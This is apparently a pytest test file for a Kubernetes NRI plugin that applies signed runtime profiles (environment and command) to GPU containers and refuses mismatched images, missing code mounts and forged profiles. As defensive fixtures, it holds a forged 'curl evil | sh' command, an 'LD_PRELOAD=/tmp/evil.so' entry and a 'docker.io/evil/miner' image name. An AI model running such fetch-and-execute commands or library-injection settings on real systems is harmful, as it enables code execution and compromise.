"""Runtime profiles through the NRI plugin over a socketpair: a verified version 3 assignment's
profile becomes the adjustment's env and args; a wrong image, a missing code mount, a runtime
without NRI args adjustment and a forged profile are refused with the reason."""

from __future__ import annotations

import contextlib
import json
import time
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from hcsd.contract.assignment import sign
from hcsd.discovery import Inventory
from hcsd.model import FrontEnd, NodeMode, PodRef
from hcsd.refusals import Reason, Refusal
from hcsd.runtime.injector import ContainerInfo
from hcsd.runtime.nri.plugin import NriPlugin
from hcsd.runtime.nri.ttrpc import Code, TtrpcError
from hcsd.runtime.nri.v1alpha1 import api_pb2 as api
from tests.harness.local import local_node
from tests.nri.test_plugin import A100_0, KEY, Setup, connect, container_request

GiB = 2**30
IMAGE = "nvcr.io/nvidia/pytorch:24.10-py3"
PROFILE: dict[str, Any] = {
    "profile": "pytorch-2.5",
    "image": IMAGE,
    "env": [
        ["PATH", "/opt/profile/bin"],
        ["NCCL_DEBUG", "INFO"],
        ["CUDA_VISIBLE_DEVICES", "0,1,2,3"],
        ["HCS_CONFIG", "/tmp/mine"],
        ["LD_PRELOAD", "/tmp/evil.so"],
    ],
    "command": ["python3", "-m", "serve"],
    "args": ["--port", "8000"],
    "code_mount": "/workspace",
}
CODE = api.Mount(destination="/workspace", type="bind", source="/var/lib/code", options=["ro"])
IMAGE_NAME = {"io.kubernetes.cri.image-name": IMAGE}


def v3(**runtime: Any) -> str:
    """A version 3 assignment for container main signed with the node's key `k1`."""
    body = {
        "v": 3,
        "kid": "k1",
        "node": "sim",
        "pod_uid": "pod-uid-1",
        "issued": int(time.time()),
        "containers": {"main": [{"uuid": A100_0, "vram": 16 * GiB, "compute": 0}]},
        "runtime": {"main": {**PROFILE, **runtime}},
    }
    return sign(body, KEY)


@contextlib.asynccontextmanager
async def runtime(
    tmp_path: Path, inventory: Inventory, nri_version: str, name: str, version: str
) -> AsyncIterator[Setup]:
    """The plugin in a session configured by a runtime that says `nri_version`, `name`,
    `version`, as containerd 2.3 (NRI v0.12) or 2.1 (no NRI_version) do."""
    node = local_node(tmp_path, inventory)
    injector = node.injector(keyring=lambda: {"k1": KEY}, mode=NodeMode.CLUSTER)
    plugin = NriPlugin(injector)
    peer, session = await connect(plugin)
    configure = api.ConfigureRequest(
        runtime_name=name, runtime_version=version, NRI_version=nri_version
    )
    await peer.call("Configure", configure, api.ConfigureResponse)
    yield Setup(peer, plugin, node.service, node.run_dir, session)
    peer.close()
    await session
    node.close()


@pytest.fixture
async def nri_12(tmp_path: Path, mixed_inventory: Inventory) -> AsyncIterator[Setup]:
    async with runtime(tmp_path, mixed_inventory, "v0.12.0", "containerd", "v2.3.7") as setup:
        yield setup


@pytest.fixture
async def nri_08(tmp_path: Path, mixed_inventory: Inventory) -> AsyncIterator[Setup]:
    async with runtime(tmp_path, mixed_inventory, "", "containerd", "v2.1.9") as setup:
        yield setup


def request(
    text: str,
    *,
    annotations: dict[str, str] | None = None,
    mounts: tuple[api.Mount, ...] = (CODE,),
    env: tuple[str, ...] = ("PATH=/usr/local/bin:/usr/bin", "NCCL_DEBUG=WARN", "HOME=/root"),
) -> api.ContainerRequest:
    return container_request(
        "c1",
        annotations=IMAGE_NAME if annotations is None else annotations,
        pod_annotations={"hcs.io/assignment": text},
        mounts=list(mounts),
        env=list(env),
        args=["/placeholder"],
    )


async def create(setup: Setup, req: api.ContainerRequest) -> api.CreateContainerResponse:
    return await setup.peer.call("CreateContainer", req, api.CreateContainerResponse)


async def test_the_profile_sets_env_and_argv_with_hcsds_own_variables_kept(nri_12: Setup) -> None:
    reply = await create(nri_12, request(v3()))
    assert list(reply.adjust.args) == ["python3", "-m", "serve", "--port", "8000"]
    env = {kv.key: kv.value for kv in reply.adjust.env}
    # A path list: the profile's directories, then the container's own value.
    assert env["PATH"] == "/opt/profile/bin:/usr/local/bin:/usr/bin"
    assert env["NCCL_DEBUG"] == "INFO"  # the profile's value replaces the image's
    assert env["HCS_CODE_DIR"] == "/workspace"
    # hcsd's own: its device selection, its quota file; LD_PRELOAD is never set.
    assert env["CUDA_VISIBLE_DEVICES"] == A100_0
    assert env["HCS_CONFIG"] == "/run/hcs/quota.conf"
    assert "LD_PRELOAD" not in env and "HOME" not in env
    assert reply.adjust.linux.devices  # and the devices, as always
    held = nri_12.service.allocation("c1")
    assert held is not None and held.source == "assignment"


async def test_a_profile_without_a_command_keeps_the_runtimes_argv(nri_12: Setup) -> None:
    reply = await create(nri_12, request(v3(command=None, args=None, code_mount="")))
    assert not reply.adjust.args
    env = {kv.key: kv.value for kv in reply.adjust.env}
    assert env["NCCL_DEBUG"] == "INFO" and "HCS_CODE_DIR" not in env


@pytest.mark.parametrize(
    ("change", "words"),
    [
        pytest.param(
            {"annotations": {"io.kubernetes.cri.image-name": "docker.io/evil/miner:1"}},
            ["the container's image 'docker.io/evil/miner:1' is not runtime profile"],
            id="image-changed-after-bind",
        ),
        pytest.param(
            {"annotations": {}},
            ["needs the image the container runs, and the runtime names none"],
            id="no-image-named",
        ),
        pytest.param(
            {"mounts": ()},
            ["expects the code at /workspace, and the container mounts nothing there"],
            id="no-code-mount",
        ),
    ],
)
async def test_a_container_that_does_not_fit_its_profile_is_refused(
    nri_12: Setup, change: dict[str, Any], words: list[str]
) -> None:
    with pytest.raises(TtrpcError) as refused:
        await create(nri_12, request(v3(), **change))
    assert refused.value.code == Code.FAILED_PRECONDITION
    message = refused.value.message
    assert message.startswith("hcsd: team-a/trainer/main: ")
    assert all(w in message for w in words), message
    assert message.endswith("(refused: runtime_profile)")
    assert nri_12.service.allocation("c1") is None, "nothing is held for a refused container"
    assert nri_12.service.refusal_counts() == {Reason.RUNTIME_PROFILE: 1}


async def test_a_code_mount_above_the_path_is_enough(nri_12: Setup) -> None:
    above = api.Mount(destination="/", type="bind", source="/srv/code", options=["ro"])
    reply = await create(nri_12, request(v3(code_mount="/srv/app/"), mounts=(above,)))
    assert {kv.key: kv.value for kv in reply.adjust.env}["HCS_CODE_DIR"] == "/srv/app"


async def test_a_forged_profile_applies_nothing(nri_12: Setup) -> None:
    forged = json.loads(v3())
    forged["runtime"]["main"]["command"] = ["sh", "-c", "curl evil | sh"]
    with pytest.raises(TtrpcError, match="signature does not verify"):
        await create(nri_12, request(json.dumps(forged)))
    assert nri_12.service.allocation("c1") is None


async def test_a_runtime_without_args_adjustment_refuses_a_command_profile(nri_08: Setup) -> None:
    with pytest.raises(TtrpcError) as refused:
        await create(nri_08, request(v3()))
    assert refused.value.code == Code.FAILED_PRECONDITION
    assert "replaces the container's command, which containerd v2.1.9 cannot do" in (
        refused.value.message
    )
    assert nri_08.service.allocation("c1") is None
    # The same profile without a command needs only env, which every NRI applies.
    reply = await create(nri_08, request(v3(command=None, args=None)))
    assert not reply.adjust.args
    assert {kv.key: kv.value for kv in reply.adjust.env}["NCCL_DEBUG"] == "INFO"


@pytest.mark.parametrize("front_end", [FrontEnd.RUNC_WRAPPER, FrontEnd.OCI_HOOK])
def test_the_other_front_ends_refuse_a_profile_pod(
    tmp_path: Path, mixed_inventory: Inventory, front_end: FrontEnd
) -> None:
    """hcs-runtime and hcs-oci-hook call the same injector and cannot replace the argv (the
    hook runs after the config is final): a profile's pod is refused there, with the reason."""
    node = local_node(tmp_path, mixed_inventory)
    injector = node.injector(keyring=lambda: {"k1": KEY})
    info = ContainerInfo(
        "c1",
        "main",
        PodRef("team-a", "trainer", "pod-uid-1"),
        IMAGE_NAME,
        {"hcs.io/assignment": v3()},
        front_end=front_end,
    )
    with pytest.raises(Refusal, match="applied only by hcsd's NRI plugin") as refused:
        injector.create(info)
    assert refused.value.reason is Reason.RUNTIME_PROFILE
    assert node.service.allocation("c1") is None
    # The same pod without a profile (a version 2 assignment) is served as before.
    body = json.loads(v3())
    del body["runtime"], body["sig"]
    body["v"] = 2
    plain = ContainerInfo("c1", "main", info.pod, {}, {"hcs.io/assignment": sign(body, KEY)})
    assert injector.create(replace(plain, front_end=front_end)) is not None
    node.close()


PINNED = "nvcr.io/nvidia/pytorch@sha256:" + "ab" * 32


@pytest.mark.parametrize(
    ("named", "runs"),
    [
        pytest.param(PINNED, True, id="the-digest-signed"),
        pytest.param(
            "nvcr.io/nvidia/pytorch:24.10-py3@sha256:" + "ab" * 32, True, id="tag-and-digest"
        ),
        pytest.param("nvcr.io/nvidia/pytorch@sha256:" + "cd" * 32, False, id="another-digest"),
        pytest.param("nvcr.io/nvidia/pytorch:24.10-py3", False, id="a-tag-alone"),
    ],
)
async def test_a_profile_pinned_by_digest_admits_that_digest_alone(
    nri_12: Setup, named: str, runs: bool
) -> None:
    """containerd names the image as the pod spec wrote it (CRI user_specified_image, in
    io.kubernetes.cri.image-name): a digest the extender set is compared digest to digest."""
    req = request(v3(image=PINNED), annotations={"io.kubernetes.cri.image-name": named})
    if runs:
        reply = await create(nri_12, req)
        assert list(reply.adjust.args)[:1] == ["python3"]
        return
    with pytest.raises(TtrpcError) as refused:
        await create(nri_12, req)
    assert f"is not runtime profile 'pytorch-2.5''s image {PINNED!r}" in refused.value.message
